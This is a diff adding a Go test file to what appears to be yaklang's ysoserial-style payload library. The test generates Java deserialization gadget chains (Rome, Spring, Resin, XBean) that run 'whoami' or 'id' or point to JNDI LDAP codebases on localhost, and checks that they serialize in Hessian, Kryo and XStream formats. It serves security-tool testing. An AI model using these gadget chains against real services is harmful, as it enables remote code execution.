@@ -0,0 +1,110 @@
+package yso
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/yaklang/yaklang/common/yserx"
+)
+
+func TestMarshalGadgetFormats(t *testing.T) {
+	test := assert.New(t)
+
+	rome, err := GetRomeMarshalObject(SetRuntimeExecEvilClass("whoami"))
+	if err != nil {
+		test.FailNow(err.Error())
+	}
+	romeJdbc, err := GetRomeJdbcRowSetMarshalObject("ldap://127.0.0.1:1389/a")
+	if err != nil {
+		test.FailNow(err.Error())
+	}
+	spring, err := GetSpringAbstractBeanFactoryPointcutAdvisorMarshalObject("ldap://127.0.0.1:1389/a")
+	if err != nil {
+		test.FailNow(err.Error())
+	}
+	resin, err := GetResinMarshalObject("http://127.0.0.1:8080/", SetRuntimeExecEvilClass("whoami"), SetClassName("Exploit"))
+	if err != nil {
+		test.FailNow(err.Error())
+	}
+	xbean, err := GetXBeanMarshalObject("http://127.0.0.1:8080/", SetRuntimeExecEvilClass("id"))
+	if err != nil {
+		test.FailNow(err.Error())
+	}
+
+	for _, obj := range []*MarshalObject{rome, romeJdbc, spring, resin, xbean} {
+		for _, format := range obj.Verbose().Formats {
+			switch format {
+			case MarshalFormatHessian:
+				raw, err := ToHessianBytes(obj)
+				if err != nil {
+					test.FailNow(err.Error())
+				}
+				values, err := yserx.ParseHessian(raw)
+				if err != nil {
+					test.FailNow(err.Error(), obj.Verbose().Name)
+				}
+				test.Equal(raw, yserx.MarshalHessian(values...))
+			case MarshalFormatHessian2:
+				raw, err := ToHessian2Bytes(obj)
+				if err != nil {
+					test.FailNow(err.Error())
+				}
+				values, err := yserx.ParseHessian2(raw)
+				if err != nil {
+					test.FailNow(err.Error(), obj.Verbose().Name)
+				}
+				test.Equal(raw, yserx.MarshalHessian2(values...))
+			case MarshalFormatKryo:
+				raw, err := ToKryoBytes(obj)
+				if err != nil {
+					test.FailNow(err.Error())
+				}
+				values, err := yserx.ParseKryo(raw)
+				if err != nil {
+					test.FailNow(err.Error(), obj.Verbose().Name)
+				}
+				test.Equal(raw, yserx.MarshalKryo(values...))
+			case MarshalFormatXStream:
+				xml, err := ToXStreamXML(obj)
+				if err != nil {
+					test.FailNow(err.Error())
+				}
+				node, err := yserx.ParseXStream([]byte(xml))
+				if err != nil {
+					test.FailNow(err.Error(), obj.Verbose().Name)
+				}
+				test.Equal(xml, string(node.Marshal()))
+			}
+		}
+		_, err := ToJson(obj)
+		test.Nil(err)
+	}
+
+	xml, err := ToXStreamXML(rome)
+	if err != nil {
+		test.FailNow(err.Error())
+	}
+	test.Contains(xml, "<__bytecodes>")
+	test.Contains(xml, `serialization="custom"`)
+	test.Contains(xml, "<__beanClass>javax.xml.transform.Templates</__beanClass>")
+
+	xml, err = ToXStreamXML(spring)
+	if err != nil {
+		test.FailNow(err.Error())
+	}
+	test.Contains(xml, `class="org.springframework.jndi.support.SimpleJndiBeanFactory"`)
+	test.True(strings.Index(xml, "<adviceBeanName>") > 0)
+
+	raw, err := ToHessian2Bytes(resin)
+	if err != nil {
+		test.FailNow(err.Error())
+	}
+	test.Contains(string(raw), "Exploit")
+	test.Equal("Exploit", marshalClassName(resin.Class))
+
+	_, err = ToKryoBytes(rome)
+	test.Error(err)
+	_, err = ToXStreamXML(resin)
+	test.Error(err)
+}